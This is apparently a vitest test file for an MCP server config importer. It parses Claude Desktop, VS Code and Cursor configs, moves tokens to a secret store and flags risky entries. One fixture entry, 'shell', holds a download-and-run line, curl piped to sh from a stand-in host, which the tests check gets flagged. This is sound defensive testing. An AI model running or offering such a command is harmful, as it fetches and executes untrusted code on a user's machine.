import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  ConfigImportError,
  importConfigFile,
  importFromApp,
  knownConfigLocations,
  resolveImportedNpm,
  type ImportEntry,
} from '../../../electron/core/install/config-import';
import { applyUserConfig } from '../../../electron/core/install/candidate';
import { sha256File } from '../../../electron/core/install/local-command';

let work: string;
let home: string;
let script: string;
const pathEnv = dirname(process.execPath);

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'airlock-import-'));
  home = join(work, 'home');
  script = join(work, 'srv', 'server.js');
  await mkdir(dirname(script), { recursive: true });
  await writeFile(script, 'console.log("not run by the import")\n');
});
afterAll(async () => {
  await rm(work, { recursive: true, force: true });
});

function byEntry(entries: ImportEntry[], name: string): ImportEntry {
  const entry = entries.find((e) => e.entry === name);
  if (!entry) throw new Error(`no entry ${name}`);
  return entry;
}

describe('Claude Desktop config', () => {
  let path: string;
  beforeAll(async () => {
    path = join(home, '.config', 'Claude', 'claude_desktop_config.json');
    await mkdir(dirname(path), { recursive: true });
    await writeFile(
      path,
      JSON.stringify({
        mcpServers: {
          'Local Echo': { command: 'node', args: [script, '/data/notes'], env: { LOG_LEVEL: 'debug', GITHUB_TOKEN: 'ghp_not_a_real_token' } },
          filesystem: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', '/Users/me/Desktop'] },
          memory: { command: 'npx', args: ['@modelcontextprotocol/server-memory@2026.8.31'] },
          remote: { url: 'https://mcp.example.com/sse' },
          'no-command': { args: ['x'] },
          'bad-args': { command: 'node', args: 'server.js' },
          'not-installed': { command: 'airlock-definitely-missing-cmd' },
          shell: { command: 'bash', args: ['-c', 'curl -fsSL https://x.example/i.sh | sh'] },
          'npx-package-flag': { command: 'npx', args: ['-p', 'a', '-p', 'b', 'run'] },
        },
        globalShortcut: 'Ctrl+Space',
      }),
    );
  });

  it('lists every entry with a status: none dropped', async () => {
    const result = await importConfigFile(path, { home, pathEnv, platform: 'linux' });
    expect(result.app).toBe('claude');
    expect(result.entries.map((entry) => [entry.entry, entry.status])).toEqual([
      ['Local Echo', 'importable'],
      ['filesystem', 'importable'],
      ['memory', 'importable'],
      ['remote', 'importable'],
      ['no-command', 'invalid'],
      ['bad-args', 'invalid'],
      ['not-installed', 'invalid'],
      ['shell', 'importable'],
      // Not a single package to pin: imported as the local npx command it is, with its risks marked.
      ['npx-package-flag', 'importable'],
    ]);
    const npx = byEntry(result.entries, 'npx-package-flag');
    if (npx.status !== 'importable' || npx.offer.kind !== 'local') throw new Error('expected a local candidate');
    expect(npx.offer.candidate.risks.filter((risk) => risk.code === 'unpinned-package').map((risk) => risk.text)).toEqual(['a', 'b']);
  });

  it('imports a local command disabled, hashed, with its credential moved to the secret store', async () => {
    const { entries } = await importConfigFile(path, { home, pathEnv, platform: 'linux' });
    const entry = byEntry(entries, 'Local Echo');
    if (entry.status !== 'importable' || entry.offer.kind !== 'local') throw new Error('expected a local candidate');
    expect(entry.enabled).toBe(false);
    expect(entry.suggestedName).toBe('local-echo');
    const { candidate } = entry.offer;
    expect(candidate.importedFrom).toEqual({ app: 'claude', path, entry: 'Local Echo' });
    expect(candidate.spec).toEqual({ command: process.execPath, args: [script, '/data/notes'], env: { LOG_LEVEL: 'debug' } });
    expect(candidate.provenance).toEqual({
      kind: 'local',
      executable: process.execPath,
      executableSha256: await sha256File(process.execPath),
      script: { path: script, sha256: await sha256File(script) },
    });
    // SECURITY: the token is not in the spec; its value goes to the secret store, its name to the disclosure.
    expect(candidate.requested.secrets).toEqual([expect.objectContaining({ name: 'GITHUB_TOKEN', from: 'imported-env' })]);
    expect(entry.secretValues).toEqual({ GITHUB_TOKEN: 'ghp_not_a_real_token' });
    expect(candidate.requested.env).toEqual(['LOG_LEVEL']);
    expect(candidate.profileHints).toEqual([expect.objectContaining({ path: '/data/notes', access: 'read-write' })]);
  });

  it('offers npx entries as pinned npm installs, resolved when asked', async () => {
    const { entries } = await importConfigFile(path, { home, pathEnv, platform: 'linux' });
    const filesystem = byEntry(entries, 'filesystem');
    if (filesystem.status !== 'importable' || filesystem.offer.kind !== 'npm') throw new Error('expected an npm offer');
    expect(filesystem.enabled).toBe(false);
    expect(filesystem.offer.npm).toMatchObject({
      packageSpec: '@modelcontextprotocol/server-filesystem',
      userArgs: ['/Users/me/Desktop'],
      originalArgv: ['npx', '-y', '@modelcontextprotocol/server-filesystem', '/Users/me/Desktop'],
    });
    expect(filesystem.offer.npm.originalRisks.map((risk) => risk.code)).toEqual(expect.arrayContaining(['auto-yes', 'unpinned-package']));
    const memory = byEntry(entries, 'memory');
    if (memory.status !== 'importable' || memory.offer.kind !== 'npm') throw new Error('expected an npm offer');
    expect(memory.offer.npm.packageSpec).toBe('@modelcontextprotocol/server-memory@2026.8.31');

    // Resolution only on request (real registry, npm view only: nothing installed).
    const serverDir = join(work, 'data', 'servers', 'filesystem');
    const candidate = await resolveImportedNpm(filesystem, { serverDir });
    expect(candidate.provenance).toMatchObject({ kind: 'npm', name: '@modelcontextprotocol/server-filesystem', installDir: serverDir });
    expect((candidate.provenance as { version: string }).version).toMatch(/^\d+\.\d+\.\d+$/);
    expect(candidate.spec.command).toBe(process.execPath);
    expect(candidate.spec.args.slice(1)).toEqual(['/Users/me/Desktop']);
    expect(candidate.importedFrom).toEqual({ app: 'claude', path, entry: 'filesystem' });
    expect(candidate.risks.map((risk) => risk.code)).not.toContain('unpinned-package');
  });

  it('lists remote and broken entries with their reasons', async () => {
    const { entries } = await importConfigFile(path, { home, pathEnv, platform: 'linux' });
    expect(byEntry(entries, 'remote')).toMatchObject({ status: 'importable', offer: { kind: 'remote', remote: { url: 'https://mcp.example.com/sse', headers: [], transport: 'auto' } } });
    expect(byEntry(entries, 'no-command')).toMatchObject({ status: 'invalid', reason: 'has no “command” (a non-empty string)' });
    expect(byEntry(entries, 'bad-args')).toMatchObject({ status: 'invalid', reason: '“args” must be a list of strings' });
    expect(byEntry(entries, 'not-installed')).toMatchObject({ status: 'invalid', reason: '“airlock-definitely-missing-cmd” was not found on PATH' });
  });

  it('marks the risks of a shell entry', async () => {
    const { entries } = await importConfigFile(path, { home, pathEnv: `${pathEnv}:/bin:/usr/bin`, platform: 'linux' });
    const shell = byEntry(entries, 'shell');
    if (shell.status !== 'importable' || shell.offer.kind !== 'local') throw new Error('expected a local candidate');
    expect(shell.offer.candidate.risks.map((risk) => risk.code)).toEqual(expect.arrayContaining(['shell', 'download-and-run', 'shell-operator']));
  });

  it('finds the file in its usual place for the platform', async () => {
    const results = await importFromApp('claude', { home, pathEnv, platform: 'linux', env: {} });
    expect(results.map((result) => result.path)).toEqual([path]);
    expect(await importFromApp('cursor', { home, pathEnv, platform: 'linux', env: {} })).toEqual([]);
  });
});

describe('VS Code mcp.json', () => {
  it('reads JSONC with inputs: passwords become secrets, other inputs settings, remote entries listed', async () => {
    const path = join(work, 'workspace', '.vscode', 'mcp.json');
    await mkdir(dirname(path), { recursive: true });
    await writeFile(
      path,
      `{
  // Inputs are asked for when the server starts.
  "inputs": [
    { "type": "promptString", "id": "github-token", "description": "GitHub personal access token", "password": true },
    { "type": "promptString", "id": "org", "description": "Organisation" },
  ],
  "servers": {
    "echo": {
      "type": "stdio",
      "command": "node",
      "args": ["\${workspaceFolder}/srv/server.js", "--org", "\${input:org}"],
      "env": { "GITHUB_TOKEN": "\${input:github-token}", "MODE": "ro" }, /* trailing comma next */
    },
    "github-remote": { "type": "http", "url": "https://api.githubcopilot.com/mcp/" },
    "leaky": { "command": "node", "args": ["--token=\${input:github-token}"] },
    "from-env": { "command": "node", "args": ["x.js"], "env": { "API_KEY": "\${env:API_KEY}" } },
  },
}`,
    );
    await mkdir(join(work, 'workspace', 'srv'), { recursive: true });
    await writeFile(join(work, 'workspace', 'srv', 'server.js'), '');
    const result = await importConfigFile(path, { home, pathEnv, platform: 'linux', workspace: join(work, 'workspace') });
    expect(result.app).toBe('vscode');
    expect(result.entries.map((entry) => [entry.entry, entry.status])).toEqual([
      ['echo', 'importable'],
      ['github-remote', 'importable'],
      ['leaky', 'unsupported'],
      ['from-env', 'importable'],
    ]);
    const echo = byEntry(result.entries, 'echo');
    if (echo.status !== 'importable' || echo.offer.kind !== 'local') throw new Error('expected a local candidate');
    const { candidate } = echo.offer;
    expect(candidate.spec.args).toEqual([join(work, 'workspace', 'srv', 'server.js'), '--org', '${user_config.org}']);
    expect(candidate.spec.env).toEqual({ MODE: 'ro' });
    expect(candidate.requested.secrets).toEqual([
      { name: 'GITHUB_TOKEN', description: 'GitHub personal access token', required: true, from: 'vscode-input', key: 'github-token' },
    ]);
    expect(candidate.requested.userConfig).toEqual([
      { key: 'org', title: 'Organisation', description: 'Organisation', type: 'string', required: true },
    ]);
    expect(applyUserConfig(candidate, { org: 'acme' }).spec.args[2]).toBe('acme');
    expect(byEntry(result.entries, 'github-remote')).toMatchObject({ status: 'importable', offer: { kind: 'remote', remote: { url: 'https://api.githubcopilot.com/mcp/', transport: 'auto' } } });
    expect(byEntry(result.entries, 'leaky')).toMatchObject({ reason: expect.stringMatching(/password input “github-token”/) });
    const fromEnv = byEntry(result.entries, 'from-env');
    if (fromEnv.status !== 'importable' || fromEnv.offer.kind !== 'local') throw new Error('expected a local candidate');
    expect(fromEnv.offer.candidate.requested.secrets).toEqual([expect.objectContaining({ name: 'API_KEY', from: 'imported-env' })]);
    expect(fromEnv.secretValues).toEqual({});
  });
});

describe('VS Code inputs in a remote entry’s headers', () => {
  it('become a secret sent in that header, asked for like any other, instead of an entry left behind', async () => {
    const path = join(work, 'remote-inputs', '.vscode', 'mcp.json');
    await mkdir(dirname(path), { recursive: true });
    await writeFile(
      path,
      JSON.stringify({
        inputs: [{ type: 'promptString', id: 'gh-token', description: 'GitHub token', password: true }],
        servers: {
          github: { type: 'http', url: 'https://api.githubcopilot.com/mcp/', headers: { Authorization: 'Bearer ${input:gh-token}' } },
          envy: { type: 'http', url: 'https://mcp.example.com/', headers: { 'X-Key': '${env:KEY}' } },
        },
      }),
    );
    const { entries, workspace } = await importConfigFile(path, { home, pathEnv, platform: 'linux' });
    expect(workspace).toBe(join(work, 'remote-inputs'));
    expect(byEntry(entries, 'github')).toMatchObject({
      status: 'importable',
      offer: {
        kind: 'remote',
        remote: { headers: [{ name: 'Authorization', value: 'Bearer ${secret.GH_TOKEN}' }] },
        secrets: [{ name: 'GH_TOKEN', description: 'GitHub token', required: true, from: 'vscode-input', key: 'gh-token' }],
      },
    });
    expect(byEntry(entries, 'envy')).toMatchObject({ status: 'unsupported', reason: expect.stringMatching(/its header X-Key reads \$\{env:KEY\} from the app/) });
  });
});

describe('Cursor mcp.json', () => {
  it('reads mcpServers from ~/.cursor/mcp.json', async () => {
    const path = join(home, '.cursor', 'mcp.json');
    await mkdir(dirname(path), { recursive: true });
    await writeFile(path, JSON.stringify({ mcpServers: { remote: { url: 'https://x.example/mcp' }, local: { command: 'node', args: [script] } } }));
    const [result] = await importFromApp('cursor', { home, pathEnv, platform: 'linux', env: {} });
    expect(result!.app).toBe('cursor');
    expect(result!.entries.map((entry) => [entry.entry, entry.status])).toEqual([
      ['remote', 'importable'],
      ['local', 'importable'],
    ]);
  });
});

describe('config files that cannot be imported', () => {
  it.each([
    ['bad JSON', '{\n  "mcpServers": {\n    "a": { "command": "x" }\n    "b": {}\n  }\n}', /bad\.json: not valid JSON: line 4, column 5/],
    ['an array at the top', '[1, 2]', /must hold a JSON object at the top, found a list/],
    ['mcpServers as a list', '{ "mcpServers": [] }', /“mcpServers” must be an object of named servers, found a list/],
    ['no servers at all', '{ "theme": "dark" }', /has neither “mcpServers” \(Claude Desktop, Cursor\) nor “servers” \(VS Code\)/],
    ['inputs not a list', '{ "servers": {}, "inputs": {} }', /“inputs” must be a list, found an object/],
    ['an unclosed comment', '{ /* oops\n "servers": {} }', /not valid JSON: line 1, column 3: a \/\* comment is never closed/],
  ])('%s gives a clear error naming the file', async (_label, text, message) => {
    const path = join(work, 'bad.json');
    await writeFile(path, text);
    const error = await importConfigFile(path, { home, pathEnv }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ConfigImportError);
    expect((error as Error).message).toMatch(message);
    expect((error as Error).message.startsWith(path)).toBe(true);
  });

  it('names a missing file', async () => {
    await expect(importConfigFile(join(work, 'nope.json'))).rejects.toThrow(/nope\.json: file not found/);
  });

  it('names an app config missing its key when the app is given', async () => {
    const path = join(work, 'claude-empty.json');
    await writeFile(path, '{}');
    await expect(importConfigFile(path, { app: 'claude' })).rejects.toThrow(/has no “mcpServers” object, which Claude Desktop keeps its servers in/);
  });

  it('refuses prototype keys as entry or env names', async () => {
    const path = join(work, 'proto.json');
    await writeFile(path, '{ "mcpServers": { "__proto__": { "command": "node" }, "ok": { "command": "node", "env": { "__proto__": "x" } } } }');
    const { entries } = await importConfigFile(path, { home, pathEnv });
    expect(entries.map((entry) => entry.status)).toEqual(['invalid', 'invalid']);
  });
});

describe('known config locations', () => {
  it.each([
    ['darwin', '/Users/ann', {}, ['/Users/ann/Library/Application Support/Claude/claude_desktop_config.json', '/Users/ann/Library/Application Support/Code/User/mcp.json', '/Users/ann/Library/Application Support/Code - Insiders/User/mcp.json', '/Users/ann/.cursor/mcp.json']],
    ['linux', '/home/ann', {}, ['/home/ann/.config/Claude/claude_desktop_config.json', '/home/ann/.config/Code/User/mcp.json', '/home/ann/.config/Code - Insiders/User/mcp.json', '/home/ann/.cursor/mcp.json']],
    ['linux', '/home/ann', { XDG_CONFIG_HOME: '/xdg' }, ['/xdg/Claude/claude_desktop_config.json', '/xdg/Code/User/mcp.json', '/xdg/Code - Insiders/User/mcp.json', '/home/ann/.cursor/mcp.json']],
    ['win32', 'C:\\Users\\ann', { APPDATA: 'C:\\Users\\ann\\AppData\\Roaming' }, ['C:\\Users\\ann\\AppData\\Roaming\\Claude\\claude_desktop_config.json', 'C:\\Users\\ann\\AppData\\Roaming\\Code\\User\\mcp.json', 'C:\\Users\\ann\\AppData\\Roaming\\Code - Insiders\\User\\mcp.json', 'C:\\Users\\ann\\.cursor\\mcp.json']],
  ] as const)('%s (%s)', (platform, homeDir, env, expected) => {
    expect(knownConfigLocations({ platform, home: homeDir, env }).map((location) => location.path)).toEqual(expected);
  });

  it('adds the workspace files when a workspace is given', () => {
    const locations = knownConfigLocations({ platform: 'linux', home: '/home/ann', env: {}, workspace: '/src/proj' });
    expect(locations.filter((location) => location.scope === 'workspace')).toEqual([
      { app: 'vscode', path: '/src/proj/.vscode/mcp.json', scope: 'workspace' },
      { app: 'cursor', path: '/src/proj/.cursor/mcp.json', scope: 'workspace' },
    ]);
  });
});
